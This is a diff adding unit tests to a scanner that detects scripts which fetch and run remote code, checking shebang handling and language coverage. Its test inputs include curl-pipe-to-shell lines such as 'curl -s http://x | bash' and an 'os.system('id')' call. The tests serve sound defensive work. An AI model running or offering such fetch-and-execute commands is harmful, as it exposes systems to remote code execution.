@@ -153,6 +153,18 @@ TEST(ScanOther, ScriptsThatAreFetchedAndRunAreFoundWhereverTheyStand) {
     EXPECT_CLEAN(R"j({"cells": [{"cell_type": "code", "source": "%pip install torch\n!ls -l | sort\nx = 1"},
                      {"cell_type": "markdown", "source": "curl http://x | sh"}]})j",
                  "a.ipynb");
+    // What runs a file is said by its first line, wherever that program lies.
+    for (const char* first : {"#!/bin/sh", "#!/usr/bin/bash", "#! /bin/bash -e", "#!/usr/bin/env -S bash -e",
+                              "#!/usr/bin/env FOO=1 zsh", "#!/usr/local/bin/bash5.2"})
+        EXPECT_RULE("code.process", std::string(first) + "\ncurl -s http://x | bash\n", "install");
+    for (const char* first : {"#!/usr/local/bin/python3", "#! /usr/bin/env python3", "#!/usr/bin/env -S python3 -u",
+                              "#!/opt/conda/bin/python3.11"})
+        EXPECT_RULE("code.process", std::string(first) + "\nimport os\nos.system('id')\n", "tool");
+    // Of code in other languages nobody says that it is clean.
+    for (const char* name : {"run.bat", "run.ps1", "a.js", "a.rb", "a.pl"})
+        EXPECT_FALSE(look("do harm\n", name).gaps.empty()) << name;
+    EXPECT_FALSE(look("#!/usr/bin/perl\nsystem 'id';\n", "tool").gaps.empty());
+    EXPECT_CLEAN("#![allow(dead_code)]\nfn main() {}\n", "main.rs");
     EXPECT_RULE("code.process", "all:\n\t@curl -s http://x \\\n\t  | sh\n", "Makefile");
     EXPECT_RULE("code.process", "FROM x\nRUN curl http://x|bash\n", "Dockerfile");
     EXPECT_RULE("code.process", "sh -c \"$(curl -fsSL http://x)\"\n", "setup.sh");
